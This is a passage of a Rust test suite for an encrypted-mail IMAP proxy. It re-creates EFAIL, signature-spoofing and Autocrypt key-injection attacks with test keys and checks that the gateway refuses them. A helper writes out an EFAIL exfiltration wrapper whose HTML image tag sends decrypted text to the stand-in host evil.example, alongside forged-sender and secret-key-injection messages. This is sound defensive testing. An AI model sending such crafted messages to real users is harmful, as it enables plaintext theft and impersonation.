//! Published attacks on encrypted mail, re-created with our own test keys
//! and read through the IMAP proxy from a real Dovecot (issue 8's attack
//! corpus, decrypt path):
//! - EFAIL (2018): a valid encrypted part wrapped in multipart/mixed,
//!   multipart/alternative or multipart/related beside attacker HTML, or
//!   inside an attached message/rfc822; tampered and truncated ciphertext.
//!   Expected: never decrypted next to the attacker's parts (such messages
//!   pass through untouched, still ciphertext), no plaintext released, one
//!   uniform error for tampered integrity-protected data.
//! - Signature spoofing ("Johnny, you are fired", 2019): a valid signature
//!   on a nested part, a signer who is not the From address, a display name
//!   that names someone else, two From fields, two addresses in one From, a
//!   Sender who is not the signer's From, a signed message forwarded inside
//!   another, a forged status header. Expected: the status never says
//!   `signature=valid` for the message (a nested signature is not the
//!   gateway's to vouch for: no status at all).
//! - Autocrypt: a header whose `addr` is not From, several headers, gossip
//!   in unsigned mail, gossip about the sender, a forged key for a verified
//!   peer, a Setup Message encrypted to the reader's public key (secret-key
//!   injection). Expected: the keystore learns none of those keys, and the
//!   one legitimate lesson among them (gossip about a recipient in signed,
//!   encrypted mail) is learned, so "nothing learned" is not "nothing works".
//!
//! Each case states the expectation it checks next to the message; one
//! genuine message in each test must come out valid, so the checks can fail.

use std::io::Write as _;
use std::time::{Duration, SystemTime};

use archive::Archive;
use autocrypt::{AutocryptHeader, PreferEncrypt};
use base64::Engine as _;
use imap_proxy::proxy::DEFAULT_PROVIDER_TIMEOUT;
use keystore::{KeySource, Keystore, Unlock};
use mailcrypt::{Boundary, EncryptRequest};
use sequoia_openpgp::serialize::stream::{Armorer, Encryptor, LiteralWriter, Message, Recipient};
use sequoia_openpgp::serialize::Serialize as _;
use sequoia_openpgp::{armor, Cert};
use testbed::Dovecot;

mod common;

const ALICE: &str = "alice@example.org";
const BOB: &str = "bob@example.org";
const MALLORY: &str = "mallory@evil.example";
const CAROL: &str = "carol@example.net";
const DAVE: &str = "dave@example.net";
const ERIN: &str = "erin@example.net";
const CANARY: &str = "attack-canary";

/// argv: port. Reads every message of INBOX; prints base64 of each, in
/// UID order (the proxy may answer in any order, as IMAP allows).
const READER: &str = r#"
import base64, imaplib, re, sys
m = imaplib.IMAP4("127.0.0.1", int(sys.argv[1]))
m.login("alice", "alicepw")
m.select("INBOX")
typ, data = m.uid("FETCH", "1:*", "(UID BODY.PEEK[])")
found = []
for d in data:
    if isinstance(d, tuple):
        uid = int(re.search(rb"UID (\d+)", d[0]).group(1))
        found.append((uid, d[1]))
for uid, body in sorted(found):
    print(base64.b64encode(body).decode())
m.logout()
"#;

struct Keys {
    alice: Cert,
    bob: Cert,
    mallory: Cert,
}

/// Alice's keystore (her identity; Bob's and Mallory's keys imported),
/// her archive, and a Dovecot holding her mailbox.
struct World {
    _dir: tempfile::TempDir,
    store: Keystore,
    archive: Archive,
    dovecot: Dovecot,
    keys: Keys,
    /// When the keys were made (a little in the past).
    now: SystemTime,
}

impl World {
    async fn new() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let store = Keystore::create(dir.path(), Unlock::KeyFile)
            .await
            .expect("vault");
        let now = SystemTime::now() - Duration::from_secs(600);
        let keys = Keys {
            alice: autocrypt::key::generate(ALICE, now).expect("alice"),
            bob: autocrypt::key::generate(BOB, now).expect("bob"),
            mallory: autocrypt::key::generate(MALLORY, now).expect("mallory"),
        };
        store
            .put_identity(ALICE, &keys.alice, PreferEncrypt::Mutual, now)
            .await
            .expect("identity");
        for peer in [&keys.bob, &keys.mallory] {
            store
                .record_key(peer, KeySource::Import, now)
                .await
                .expect("peer key");
        }
        let archive = Archive::open(&store).await.expect("archive");
        let dovecot = tokio::task::spawn_blocking(|| Dovecot::start(&[("alice", "alicepw")]))
            .await
            .expect("dovecot");
        World {
            _dir: dir,
            store,
            archive,
            dovecot,
            keys,
            now,
        }
    }
}

impl World {
    /// A world in which Alice verified Bob's key.
    async fn with_bob_verified() -> Self {
        let world = World::new().await;
        let bob = world.keys.bob.fingerprint().to_hex();
        world
            .store
            .verify(BOB, &bob, "fingerprint", world.now)
            .await
            .expect("verify Bob");
        world
    }
}

fn encrypt(keys: &Keys, sender: &Cert, inner: &str) -> String {
    encrypt_with(keys, sender, inner, None, &[])
}

/// Signed and encrypted to Alice by `sender` (mailcrypt, as a real peer
/// would), with an outer `Autocrypt:` header and inner gossip if given.
fn encrypt_with(
    keys: &Keys,
    sender: &Cert,
    inner: &str,
    autocrypt: Option<&AutocryptHeader>,
    gossip: &[AutocryptHeader],
) -> String {
    let sealed = mailcrypt::encrypt(
        inner.replace('\n', "\r\n").as_bytes(),
        &EncryptRequest {
            autocrypt,
            gossip,
            pad: false,
            ..EncryptRequest::new(sender, &[keys.alice.clone().strip_secret_key_material()])
        },
    )
    .expect("encrypt");
    String::from_utf8(sealed).expect("armored")
}

/// `payload` encrypted to `recipient` with no signature at all (mailcrypt
/// always signs, an attacker need not), armored.
fn encrypt_unsigned(recipient: &Cert, payload: &[u8]) -> String {
    let mut sink = Vec::new();
    let message = Armorer::new(Message::new(&mut sink))
        .build()
        .expect("armorer");
    let keys: Vec<_> = recipient
        .keys()
        .with_policy(autocrypt::policy(), None)
        .for_transport_encryption()
        .map(|ka| ka.key().clone())
        .collect();
    let message =
        Encryptor::for_recipients(message, keys.iter().map(|k| Recipient::new(None, None, k)))
            .build()
            .expect("encryptor");
    let mut literal = LiteralWriter::new(message).build().expect("literal");
    literal.write_all(payload).expect("write");
    literal.finalize().expect("finalize");
    String::from_utf8(sink).expect("armored")
}

/// A PGP/MIME message: `outer` header lines (CRLF-terminated) around the
/// armored ciphertext.
fn pgp_mime(outer: &str, armored: &str) -> String {
    format!(
        "{outer}MIME-Version: 1.0\r\n\
         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n\
         --enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --enc\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--enc--\r\n",
        armored = armored.replace("\r\n", "\n").replace('\n', "\r\n"),
    )
}

/// Where the base64 data of the (first) armored block is: after the BEGIN
/// line and any armor headers, before the checksum and END lines.
fn armored_data(message: &str) -> std::ops::Range<usize> {
    let begin = message.find("-----BEGIN PGP MESSAGE-----").expect("armor");
    let mut at = begin + message[begin..].find("\r\n").expect("line") + 2;
    // Armor headers ("Comment: …") and the blank line after them.
    while let Some(end) = message[at..].find("\r\n") {
        let line = &message[at..at + end];
        if line.is_empty() || line.contains(": ") {
            at += end + 2;
        } else {
            break;
        }
    }
    let end = at
        + message[at..]
            .find("\r\n=")
            .or_else(|| message[at..].find("\r\n-----END"))
            .expect("armor end");
    at..end
}

/// The multipart/encrypted entity of a whole encrypted message (its
/// Content-Type field and body), to be wrapped by an attacker.
fn encrypted_entity(message: &str) -> String {
    let at = message
        .find("Content-Type: multipart/encrypted")
        .expect("PGP/MIME");
    message[at..].to_string()
}

fn wrap(kind: &str, from: &str, subject: &str, entity: &str) -> String {
    format!(
        "From: {from}\r\nTo: {ALICE}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/{kind}; boundary=\"evil\"\r\n\r\n\
         --evil\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n\
         --evil\r\n{entity}\r\n--evil\r\nContent-Type: text/html\r\n\r\n\">\r\n--evil--\r\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn published_attacks_are_refused_through_the_proxy() {
    let world = World::new().await;
    let keys = &world.keys;
    let from_bob = |subject: &str| {
        encrypt(
            keys,
            &keys.bob,
            &format!(
                "From: {BOB}\nTo: {ALICE}\nSubject: {subject}\nContent-Type: text/plain\n\n{CANARY} {subject}\n"
            ),
        )
    };
    let valid = from_bob("genuine");
    let entity = encrypted_entity(&valid);

    // The genuine message, so that "valid" is seen when it is true.
    let mut cases: Vec<Case> = vec![(
        "genuine",
        valid.clone(),
        &["encrypted", "signature=valid", "signer=bob@example.org"],
        &[],
    )];
    // EFAIL direct exfiltration: the encrypted part beside attacker HTML.
    for kind in ["mixed", "alternative", "related"] {
        cases.push((
            kind,
            wrap(kind, BOB, &format!("efail {kind}"), &entity),
            &[],
            &["signature=valid"],
        ));
    }
    // The encrypted message as an attachment.
    cases.push((
        "attached",
        format!(
            "From: {BOB}\r\nTo: {ALICE}\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"evil\"\r\n\r\n--evil\r\n\
             Content-Type: text/plain\r\n\r\nsee attached\r\n--evil\r\n\
             Content-Type: message/rfc822\r\n\r\n{valid}\r\n--evil--\r\n"
        ),
        &[],
        &["signature=valid"],
    ));
    // Tampered ciphertext (CFB/CBC gadgets need malleable ciphertext: any
    // change must fail the integrity check, with the same words each time).
    let data = armored_data(&valid);
    // Early bytes are the session key's packet (its damage means "no-key":
    // nothing about the content can be learned); later ones are the
    // integrity-protected data, where every change reads the same.
    let tampered: [(&str, usize, &[&str]); 3] = [
        ("tamper-session-key", 10, &["decryption=failed"]),
        (
            "tamper-middle",
            50,
            &["decryption=failed", "reason=integrity"],
        ),
        (
            "tamper-late",
            90,
            &["decryption=failed", "reason=integrity"],
        ),
    ];
    for (name, share, expected) in tampered {
        let mut bytes = valid.clone().into_bytes();
        let i = data.start + (data.end - data.start) * share / 100;
        let i = i + bytes[i..]
            .iter()
            .position(u8::is_ascii_alphanumeric)
            .unwrap_or(0);
        bytes[i] = if bytes[i] == b'A' { b'B' } else { b'A' };
        cases.push((
            name,
            String::from_utf8(bytes).expect("ascii"),
            expected,
            &["signature=valid"],
        ));
    }
    // Cut short: the end of the ciphertext is missing.
    let mut truncated = valid.clone();
    truncated.replace_range(data.start + (data.end - data.start) / 2..data.end, "");
    cases.push((
        "truncated",
        truncated,
        &["decryption=failed"],
        &["signature=valid"],
    ));
    // A signed part nested under cleartext ("Johnny, you are fired").
    let signed = String::from_utf8(
        mailcrypt::sign(
            format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: signed\r\n\r\nsigned words\r\n")
                .as_bytes(),
            &keys.bob,
            SystemTime::now(),
            &Boundary::Random,
        )
        .expect("sign"),
    )
    .expect("ascii");
    let signed_entity = &signed[signed
        .find("Content-Type: multipart/signed")
        .expect("signed")..];
    cases.push((
        "nested-signature",
        format!(
            "From: {BOB}\r\nTo: {ALICE}\r\nSubject: you are fired\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"evil\"\r\n\r\n--evil\r\n\
             Content-Type: text/plain\r\n\r\nYou are fired.\r\n--evil\r\n{signed_entity}\r\n--evil--\r\n"
        ),
        &[],
        &["signature=valid"],
    ));
    // Signed and encrypted by Mallory, From: Bob.
    cases.push((
        "signer-is-not-from",
        encrypt(
            keys,
            &keys.mallory,
            &format!("From: {BOB}\nTo: {ALICE}\nSubject: mismatch\n\n{CANARY} from mallory\n"),
        ),
        &["encrypted", "signature=mismatch"],
        &["signature=valid", "signer=bob"],
    ));
    // A display name that names Bob, an address that is Mallory's.
    cases.push((
        "display-name",
        encrypt(
            keys,
            &keys.mallory,
            &format!(
                "From: \"{BOB}\" <{MALLORY}>\nTo: {ALICE}\nSubject: display\n\n{CANARY} display\n"
            ),
        ),
        &["signer=mallory@evil.example", "warning=display-name"],
        &["signer=bob"],
    ));
    // Two From fields: nobody's signature can cover "the" sender.
    cases.push((
        "two-from",
        encrypt(
            keys,
            &keys.bob,
            &format!("From: {BOB}\nFrom: {MALLORY}\nTo: {ALICE}\nSubject: two\n\n{CANARY} two\n"),
        ),
        &["encrypted"],
        &["signature=valid"],
    ));
    // Two addresses in one From, signed by one of them: the signature
    // cannot vouch for a message that also claims to come from Bob.
    cases.push((
        "two-addresses-in-from",
        encrypt(
            keys,
            &keys.mallory,
            &format!(
                "From: {BOB}, {MALLORY}\nSender: {MALLORY}\nTo: {ALICE}\nSubject: both\n\n{CANARY} both\n"
            ),
        ),
        &["encrypted"],
        &["signature=valid", "signer=bob"],
    ));
    // Signed by Mallory, From: Bob, Sender: Mallory (clients that show the
    // Sender as "on behalf of" would make Bob the author): From decides.
    cases.push((
        "sender-field",
        encrypt(
            keys,
            &keys.mallory,
            &format!(
                "From: {BOB}\nSender: {MALLORY}\nTo: {ALICE}\nSubject: on behalf\n\n{CANARY} behalf\n"
            ),
        ),
        &["encrypted", "signature=mismatch"],
        &["signature=valid", "signer=bob"],
    ));
    // Bob's genuinely signed message forwarded inside Mallory's cleartext
    // mail that claims to be from Bob: the forwarded signature vouches for
    // the attachment, not for the message around it.
    cases.push((
        "signed-forward",
        format!(
            "From: {BOB}\r\nTo: {ALICE}\r\nSubject: Fwd: signed\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"evil\"\r\n\r\n--evil\r\n\
             Content-Type: text/plain\r\n\r\nPay Mallory, see Bob's signed note.\r\n--evil\r\n\
             Content-Type: message/rfc822\r\n\r\n{signed}\r\n--evil--\r\n"
        ),
        &[],
        &["signature=valid"],
    ));
    // The same forward signed and encrypted by Mallory as himself: valid,
    // but Mallory's, never Bob's.
    cases.push((
        "signed-forward-encrypted",
        encrypt(
            keys,
            &keys.mallory,
            &format!(
                "From: {MALLORY}\nTo: {ALICE}\nSubject: Fwd: signed\nMIME-Version: 1.0\n\
                 Content-Type: multipart/mixed; boundary=\"fwd\"\n\n--fwd\n\
                 Content-Type: text/plain\n\n{CANARY} forwarded\n--fwd\n\
                 Content-Type: message/rfc822\n\n{signed}\n--fwd--\n",
                signed = signed.replace("\r\n", "\n"),
            ),
        ),
        &["encrypted", "signer=mallory@evil.example"],
        &["signer=bob"],
    ));
    // A status header forged outside an encrypted message that carries no
    // signature at all.
    let unsigned = pgp_mime(
        &format!(
            "Letterlock-Security: encrypted; signature=valid; signer={BOB}; key=verified\r\n\
             From: {BOB}\r\nTo: {ALICE}\r\nSubject: unsigned\r\n"
        ),
        &encrypt_unsigned(
            &keys.alice,
            format!("From: {BOB}\r\nTo: {ALICE}\r\nSubject: unsigned\r\n\r\n{CANARY} unsigned\r\n")
                .as_bytes(),
        ),
    );
    cases.push((
        "forged-status",
        unsigned,
        &["encrypted", "signature=none"],
        &["key=verified", "signature=valid"],
    ));

    let served = read_through_proxy(&world, &cases).await;
    let failures = check(&cases, &served);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// (name, message, what its status must show, what it must not)
type Case<'a> = (&'a str, String, &'a [&'a str], &'a [&'a str]);

/// Saves each case's message in Alice's INBOX at Dovecot, reads the whole
/// INBOX through a proxy (Python's imaplib as the client) and returns what
/// was served, in UID order.
async fn read_through_proxy(world: &World, cases: &[Case<'_>]) -> Vec<String> {
    for (_, message, _, _) in cases {
        world.dovecot.save("alice", "INBOX", message.as_bytes());
    }
    let served = read_inbox(&world.store, &world.archive, &world.dovecot, 1)
        .await
        .remove(0);
    assert_eq!(served.len(), cases.len());
    served
}

/// Alice's whole INBOX, read through one proxy by `sessions` imaplib
/// clients at once; what each was served, in UID order.
async fn read_inbox(
    store: &Keystore,
    archive: &Archive,
    dovecot: &Dovecot,
    sessions: usize,
) -> Vec<Vec<String>> {
    let proxy = common::start(
        vec![common::account_at(dovecot, ALICE, "alice")],
        DEFAULT_PROVIDER_TIMEOUT,
        store,
        archive,
    )
    .await;
    let port = proxy.port;
    let readers: Vec<_> = (0..sessions)
        .map(|_| {
            tokio::task::spawn_blocking(move || {
                testbed::python::run(READER, [port.to_string()], b"")
            })
        })
        .collect();
    let mut all = Vec::new();
    for reader in readers {
        let out = reader.await.expect("reader");
        all.push(testbed::python::base64_text(&out));
    }
    proxy.stop().await;
    all
}

/// The world's vault and archive opened again, as at a gateway restart.
async fn reopened(world: &World) -> (Keystore, Archive) {
    let store = Keystore::open(world._dir.path(), None)
        .await
        .expect("reopen");
    let archive = Archive::open(&store).await.expect("archive");
    (store, archive)
}

fn assert_passed(failures: &[String], when: &str) {
    assert!(failures.is_empty(), "{when}: {}", failures.join("\n"));
}

/// Each served message against its case: at most one status header, the
/// words it must and must not have, and no plaintext (the canary) where
/// nothing was decrypted.
fn check(cases: &[Case<'_>], served: &[String]) -> Vec<String> {
    let mut failures = Vec::new();
    for ((name, _, must, must_not), message) in cases.iter().zip(served) {
        let statuses: Vec<&str> = message
            .split("\r\n\r\n")
            .next()
            .unwrap_or_default()
            .lines()
            .filter(|l| l.to_ascii_lowercase().starts_with("letterlock-security:"))
            .collect();
        let status = statuses.join(" | ");
        // More than one is always wrong; none is right only for messages
        // the gateway leaves alone (it decrypted and verified nothing).
        if statuses.len() > 1 || (statuses.is_empty() && !must.is_empty()) {
            failures.push(format!(
                "{name}: {} status headers: {status}",
                statuses.len()
            ));
        }
        for want in *must {
            if !status.contains(want) {
                failures.push(format!("{name}: status lacks {want:?}: {status}"));
            }
        }
        for unwanted in *must_not {
            if status.contains(unwanted) {
                failures.push(format!("{name}: status says {unwanted:?}: {status}"));
            }
        }
        if !status.contains("encrypted; signature=") && message.contains(CANARY) {
            failures.push(format!("{name}: plaintext released"));
        }
    }
    failures
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn autocrypt_attacks_teach_the_keystore_nothing() {
    let world = World::new().await;
    let (keys, store, now) = (&world.keys, &world.store, world.now);
    let key = |addr: &str| autocrypt::key::generate(addr, now).expect("key");
    // Keys Mallory made for other people's addresses.
    let forged_bob = key(BOB);
    let addr_not_from = key(BOB);
    let forged_alice = key(ALICE);
    let mallory_for = |addr: &str| AutocryptHeader::new(addr, PreferEncrypt::Mutual, key(addr));
    let dave = key(DAVE);
    let bob_fpr = keys.bob.fingerprint().to_hex();
    store
        .verify(BOB, &bob_fpr, "fingerprint compared in person", now)
        .await
        .expect("verify");
    let header_for = |addr: &str, cert: &Cert| {
        AutocryptHeader::new(
            addr,
            PreferEncrypt::Mutual,
            cert.clone().strip_secret_key_material(),
        )
        .render("\r\n ")
    };

    let mut cases: Vec<Case> = Vec::new();
    // A header whose addr is Bob's, in mail from Mallory.
    cases.push((
        "addr-not-from",
        format!(
            "From: {MALLORY}\r\nTo: {ALICE}\r\nSubject: hi\r\nAutocrypt: {}\r\n\r\nhello\r\n",
            header_for(BOB, &addr_not_from)
        ),
        &[],
        &["signature=valid"],
    ));
    // Two headers for the sender: Autocrypt says use neither.
    cases.push((
        "several-headers",
        format!(
            "From: {CAROL}\r\nTo: {ALICE}\r\nSubject: two keys\r\nAutocrypt: {}\r\nAutocrypt: {}\r\n\r\nhello\r\n",
            header_for(CAROL, &key(CAROL)),
            header_for(CAROL, &key(CAROL))
        ),
        &[],
        &["signature=valid"],
    ));
    // Gossip about Erin inside encrypted mail that nobody signed.
    let inner = format!(
        "From: {MALLORY}\r\nTo: {ALICE}\r\nCc: {ERIN}\r\nSubject: unsigned gossip\r\n\
         Autocrypt-Gossip: {}\r\n\r\n{CANARY} unsigned gossip\r\n",
        mallory_for(ERIN).render_gossip("\r\n ")
    );
    cases.push((
        "gossip-in-unsigned-mail",
        pgp_mime(
            &format!("From: {MALLORY}\r\nTo: {ALICE}\r\nCc: {ERIN}\r\nSubject: ...\r\n"),
            &encrypt_unsigned(&keys.alice, inner.as_bytes()),
        ),
        &["encrypted", "signature=none"],
        &["signature=valid"],
    ));
    // Signed, encrypted gossip from Mallory about himself (a second key of
    // his choosing) and about Dave, a recipient: only Dave's is learned.
    cases.push((
        "gossip-about-the-sender",
        encrypt_with(
            keys,
            &keys.mallory,
            &format!(
                "From: {MALLORY}\nTo: {ALICE}\nCc: {DAVE}\nSubject: gossip\n\n{CANARY} gossip\n"
            ),
            None,
            &[
                mallory_for(MALLORY),
                AutocryptHeader::new(
                    DAVE,
                    PreferEncrypt::Mutual,
                    dave.clone().strip_secret_key_material(),
                ),
            ],
        ),
        &[
            "encrypted",
            "signature=valid",
            "signer=mallory@evil.example",
        ],
        &[],
    ));
    // A key Mallory made for Bob, whom Alice verified, offered in Bob's name
    // and used to sign: not Bob's key, not valid, the reader is told.
    cases.push((
        "forged-key-for-a-verified-peer",
        encrypt_with(
            keys,
            &forged_bob,
            &format!("From: {BOB}\nTo: {ALICE}\nSubject: new key\n\n{CANARY} new key\n"),
            Some(&AutocryptHeader::new(
                BOB,
                PreferEncrypt::Mutual,
                forged_bob.clone().strip_secret_key_material(),
            )),
            &[],
        ),
        &["encrypted", "autocrypt=conflict"],
        &["signature=valid"],
    ));
    // Autocrypt Setup Messages holding Mallory's secret key for Alice's
    // address, encrypted to Alice's public key instead of a Setup Code:
    // as the standard attachment, and as a whole inline body (which the
    // proxy decrypts like any inline message). Neither may become Alice's key.
    let mut injected_key = Vec::new();
    {
        let mut armor =
            armor::Writer::new(&mut injected_key, armor::Kind::SecretKey).expect("armor");
        forged_alice
            .as_tsk()
            .serialize(&mut armor)
            .expect("serialize");
        armor.finalize().expect("armor end");
    }
    let setup_block = encrypt_unsigned(&keys.alice, &injected_key);
    cases.push((
        "setup-message-injection",
        format!(
            "From: {ALICE}\r\nTo: {ALICE}\r\nSubject: Autocrypt Setup Message\r\n\
             Autocrypt-Setup-Message: v1\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/mixed; boundary=\"setup\"\r\n\r\n--setup\r\n\
             Content-Type: text/plain\r\n\r\nImport this key.\r\n--setup\r\n\
             Content-Type: application/autocrypt-setup\r\n\r\n{}\r\n--setup--\r\n",
            setup_block.replace('\n', "\r\n")
        ),
        &[],
        &["signature=valid"],
    ));
    cases.push((
        "setup-message-injection-inline",
        format!(
            "From: {ALICE}\r\nTo: {ALICE}\r\nSubject: Autocrypt Setup Message\r\n\
             Autocrypt-Setup-Message: v1\r\n\r\n{}",
            setup_block.replace('\n', "\r\n")
        ),
        &[],
        &["signature=valid"],
    ));

    let served = read_through_proxy(&world, &cases).await;
    let mut failures = check(&cases, &served);

    // What the keystore holds afterwards.
    let fingerprints = |records: Vec<keystore::KeyRecord>| -> Vec<String> {
        records.into_iter().map(|r| r.fingerprint).collect()
    };
    let bob = store.summary(BOB).await.expect("summary");
    if bob.fingerprint.as_deref() != Some(bob_fpr.as_str())
        || bob.trust != Some(keystore::TrustLevel::Verified)
    {
        failures.push(format!("Bob is no longer his verified key: {bob:?}"));
    }
    // The forged key offered in Bob's name is remembered only as the
    // conflict the reader was shown; the one in Mallory's mail not at all.
    if !bob.conflicts.contains(&forged_bob.fingerprint().to_hex()) {
        failures.push(format!(
            "the forged key is not listed as a conflict: {bob:?}"
        ));
    }
    if fingerprints(store.history(BOB).await.expect("history"))
        .contains(&addr_not_from.fingerprint().to_hex())
    {
        failures.push("a key for Bob was taken from Mallory's mail".into());
    }
    if let Some(key) = store
        .peer_state(MALLORY)
        .await
        .expect("state")
        .and_then(|s| s.public_key)
    {
        failures.push(format!(
            "Mallory's header for Bob's address became Mallory's key {}",
            key.fingerprint()
        ));
    }
    let carol = store.peer_state(CAROL).await.expect("state");
    if carol.as_ref().and_then(|s| s.public_key.as_ref()).is_some() {
        failures.push("one of Carol's two headers was used".into());
    }
    if carol.and_then(|s| s.last_seen).is_none() {
        failures.push("Carol's message was not seen at all (the check would be vacuous)".into());
    }
    if !fingerprints(store.history(ERIN).await.expect("history")).is_empty() {
        failures.push("gossip from unsigned mail was learned for Erin".into());
    }
    let mallory = store.peer_state(MALLORY).await.expect("state");
    if mallory.and_then(|s| s.gossip_key).is_some() {
        failures.push("gossip about the sender was learned".into());
    }
    let dave_gossip = store
        .peer_state(DAVE)
        .await
        .expect("state")
        .and_then(|s| s.gossip_key)
        .map(|c| c.fingerprint());
    if dave_gossip != Some(dave.fingerprint()) {
        failures.push(format!(
            "gossip about a recipient in signed, encrypted mail was not learned: {dave_gossip:?}"
        ));
    }
    let identities = store.identities().await.expect("identities");
    if identities.len() != 1 || identities[0].cert.fingerprint() != keys.alice.fingerprint() {
        failures.push("a Setup Message changed Alice's own key".into());
    }
    if fingerprints(store.history(ALICE).await.expect("history"))
        .contains(&forged_alice.fingerprint().to_hex())
    {
        failures.push("Mallory's key for Alice's address was recorded".into());
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Rule 5 through the proxy: a good signature makes a message `valid` only
/// if it was made by the key Alice's keystore holds for the From address.
/// Mallory's key, learned for her own address, carries Bob's address as a
/// second user ID; a key offered in Bob's name conflicts with the one Alice
/// verified. Neither vouches for Bob: not in the session that learns them,
/// not after the vault is reopened, not in two sessions reading at once.
/// Bob's own mail and Mallory's mail in her own name stay `valid`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keys_vouch_only_for_the_address_they_are_held_for() {
    use sequoia_openpgp::cert::CertBuilder;
    let world = World::with_bob_verified().await;
    let (keys, now) = (&world.keys, world.now);
    let (two_names, _) = CertBuilder::new()
        .add_userid(MALLORY)
        .add_userid(BOB)
        .add_signing_subkey()
        .add_transport_encryption_subkey()
        .set_creation_time(now)
        .generate()
        .expect("Mallory's key with Bob's name");
    let in_bobs_name = autocrypt::key::generate(BOB, now).expect("a key in Bob's name");
    let header = |addr: &str, cert: &Cert| {
        AutocryptHeader::new(
            addr,
            PreferEncrypt::Mutual,
            cert.clone().strip_secret_key_material(),
        )
    };
    let text = |from: &str, subject: &str| {
        format!("From: {from}\nTo: {ALICE}\nSubject: {subject}\nContent-Type: text/plain\n\n{CANARY} {subject}\n")
    };
    let signed_clear = |from: &str, subject: &str, signer: &Cert, ac: Option<&AutocryptHeader>| {
        let mut m = text(from, subject).replace('\n', "\r\n");
        if let Some(ac) = ac {
            m = format!("Autocrypt: {}\r\n{m}", ac.render("\r\n"));
        }
        let signed = mailcrypt::sign(m.as_bytes(), signer, SystemTime::now(), &Boundary::Random)
            .expect("sign");
        String::from_utf8(signed).expect("text")
    };
    let not_valid: &[&str] = &["signature=valid"];
    let mallory_header = header(MALLORY, &two_names);
    let conflict_header = header(BOB, &in_bobs_name);

    let first: Vec<Case<'_>> = vec![
        (
            "genuine Bob",
            encrypt(keys, &keys.bob, &text(BOB, "genuine")),
            &["signature=valid; signer=bob@example.org; key=verified"],
            &[],
        ),
        (
            "Mallory in her own name",
            encrypt_with(
                keys,
                &two_names,
                &text(MALLORY, "her own"),
                Some(&mallory_header),
                &[],
            ),
            &["signature=valid; signer=mallory@evil.example; key=tofu"],
            &[],
        ),
        (
            "Mallory's key signs as Bob",
            encrypt(keys, &two_names, &text(BOB, "second user ID")),
            // `unknown-key` or `mismatch`: the session may have listed the
            // known keys before her first mail taught hers.
            &["encrypted", "signature="],
            not_valid,
        ),
        (
            "an address in a comment of From is not the sender's",
            encrypt(
                keys,
                &keys.mallory,
                &text(&format!("{BOB} (<{MALLORY}>)"), "comment"),
            ),
            &["encrypted", "signature=mismatch"],
            not_valid,
        ),
        (
            "a key in Bob's name conflicts",
            encrypt_with(
                keys,
                &in_bobs_name,
                &text(BOB, "conflict"),
                Some(&conflict_header),
                &[],
            ),
            &["encrypted", "autocrypt=conflict"],
            not_valid,
        ),
    ];
    let served = read_through_proxy(&world, &first).await;
    assert_passed(&check(&first, &served), "first session");

    // The vault reopened (as at a gateway restart); two sessions at once.
    let (store, archive) = reopened(&world).await;
    let later: Vec<Case<'_>> = vec![
        (
            "the conflicting key again, with its header",
            encrypt_with(
                keys,
                &in_bobs_name,
                &text(BOB, "again"),
                Some(&conflict_header),
                &[],
            ),
            &["encrypted", "autocrypt=conflict"],
            not_valid,
        ),
        (
            "the conflicting key, no header",
            encrypt(keys, &in_bobs_name, &text(BOB, "no header")),
            &["encrypted", "signature=mismatch"],
            not_valid,
        ),
        (
            "Mallory's key signs Bob's cleartext",
            signed_clear(BOB, "clear", &two_names, None),
            &["unencrypted", "signature=mismatch"],
            not_valid,
        ),
        (
            "Mallory's key signs Bob's cleartext with her header",
            signed_clear(BOB, "clear with header", &two_names, Some(&mallory_header)),
            &["unencrypted"],
            not_valid,
        ),
        (
            "genuine Bob, later",
            encrypt(keys, &keys.bob, &text(BOB, "later")),
            &["signature=valid; signer=bob@example.org; key=verified"],
            &[],
        ),
    ];
    for (_, message, _, _) in &later {
        world.dovecot.save("alice", "INBOX", message.as_bytes());
    }
    for (session, served) in read_inbox(&store, &archive, &world.dovecot, 2)
        .await
        .into_iter()
        .enumerate()
    {
        assert_eq!(served.len(), first.len() + later.len());
        let failures = check(&later, &served[first.len()..]);
        assert!(
            failures.is_empty(),
            "after reopening, session {session}: {}",
            failures.join("\n")
        );
        // What was served before is served again byte for byte.
        let again = check(&first, &served[..first.len()]);
        assert!(again.is_empty(), "{}", again.join("\n"));
    }
    let bob = store
        .signing_key(BOB)
        .await
        .expect("lookup")
        .expect("Bob's key");
    assert_eq!(bob.fingerprint, keys.bob.fingerprint().to_hex());
}

/// Bob's cleartext-signed `text` (the cleartext signature framework, as
/// `gpg --clearsign` writes it), made with Sequoia.
fn clearsign(signer: &Cert, text: &str) -> String {
    use sequoia_openpgp::serialize::stream::Signer;
    let keypair = signer
        .keys()
        .with_policy(autocrypt::policy(), None)
        .secret()
        .for_signing()
        .next()
        .expect("a signing key")
        .key()
        .clone()
        .into_keypair()
        .expect("keypair");
    let mut sink = Vec::new();
    let mut writer = Signer::new(Message::new(&mut sink), keypair)
        .expect("signer")
        .cleartext()
        .build()
        .expect("cleartext signer");
    writer.write_all(text.as_bytes()).expect("write");
    writer.finalize().expect("finalize");
    String::from_utf8(sink)
        .expect("text")
        .replace("\r\n", "\n")
        .replace('\n', "\r\n")
}

/// Issue 17, finding 3: what is shown under `signature=valid` is exactly
/// what the signature covers. A genuine signature of Bob's (verified key)
/// wrapped so that more is shown than was signed — an S/MIME or
/// protocol-less multipart/signed around it, a signature part that is not
/// one, clear-signed text with more text around or inside its armor, a
/// bare CR that shows a CR-splitting client other parts than the gateway
/// verified — is never `valid`; the same signatures unwrapped are. Read in
